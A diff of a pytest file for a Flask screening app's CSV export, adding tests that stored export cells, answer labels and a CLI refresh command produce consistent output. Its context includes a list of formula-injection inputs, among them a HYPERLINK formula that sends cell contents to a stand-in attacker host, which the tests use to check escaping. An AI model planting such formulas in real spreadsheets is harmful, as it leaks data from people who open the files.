@@ -11,13 +11,16 @@ import pytest
 from flask import Flask
 from flask.testing import FlaskClient
 from sqlalchemy import select
+from sqlalchemy import update
 from sqlalchemy.orm import Session
 
 from screener import export
 from screener.models import AuditEvent
+from screener.models import Submission
 from screener.questionnaire import Questionnaire
 
 from .conftest import SubmissionFactory
+from .patient_walk import PatientWalk
 
 MALICIOUS = [
     '=HYPERLINK("http://evil.example/?"&A1,"Click")',
@@ -220,3 +223,44 @@ def test_export_from_the_command_line(
     assert [row[0] for row in rows[1:]] == [inside.reference]
     event = db.scalar(select(AuditEvent).where(AuditEvent.action == "export"))
     assert (event.actor, event.details["rows"]) == ("cli", 1)
+
+
+def test_stored_cells_export_exactly_what_the_answers_would(
+    app: Flask, staff_client: FlaskClient, db: Session
+) -> None:
+    q = app.extensions["screener.questionnaire"]
+    for overrides in (
+        {"body_regions": ["neck", "eyes"]},
+        {"anything_else": '=1+1, "quoted"\nnext line'},
+    ):
+        PatientWalk(app.test_client(), q).complete(overrides)
+    stored = db.scalars(select(Submission.export_hash)).all()
+    assert stored == [q.content_hash, q.content_hash]  # submitting stored them
+    fast = download(staff_client)
+    db.execute(update(Submission).values(export_hash="an older questionnaire"))
+    slow = download(staff_client)  # now every row is built from its answers
+    assert fast == slow
+    assert b"'=1+1" in fast
+
+
+def test_labels_are_built_from_the_answers(
+    app: Flask, staff_client: FlaskClient
+) -> None:
+    q = app.extensions["screener.questionnaire"]
+    PatientWalk(app.test_client(), q).complete()
+    rows = parse(download(staff_client, labels="1"))
+    row = dict(zip(rows[0], rows[1], strict=True))
+    assert row["who_answering"] == q.choice_label(q.question("who_answering"), "self")
+
+
+def test_refreshing_re_renders_rows_from_older_versions(
+    app: Flask, staff_client: FlaskClient, db: Session
+) -> None:
+    q = app.extensions["screener.questionnaire"]
+    PatientWalk(app.test_client(), q).complete()
+    before = download(staff_client)
+    db.execute(update(Submission).values(export_hash=None, export_cells=None))
+    result = app.test_cli_runner().invoke(args=["refresh-export-rows"])
+    assert "Re-rendered 1 submission." in result.output
+    assert db.scalar(select(Submission.export_hash)) == q.content_hash
+    assert download(staff_client) == before
